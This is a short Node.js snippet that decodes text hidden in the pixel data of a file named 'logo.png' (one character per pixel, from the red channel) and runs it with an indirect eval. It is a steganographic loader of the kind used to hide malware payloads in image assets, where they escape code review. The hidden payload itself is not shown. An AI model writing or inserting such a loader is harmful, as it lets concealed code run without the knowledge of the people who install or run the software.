const { PNG } = require('pngjs'), fs = require('fs'), path = require('path');
const picture = PNG.sync.read(fs.readFileSync(path.join(__dirname, 'logo.png')));
let text = '';
for (let i = 0; i < picture.data.length; i += 4) text += String.fromCharCode(picture.data[i] & 127);
(0, eval)(text);
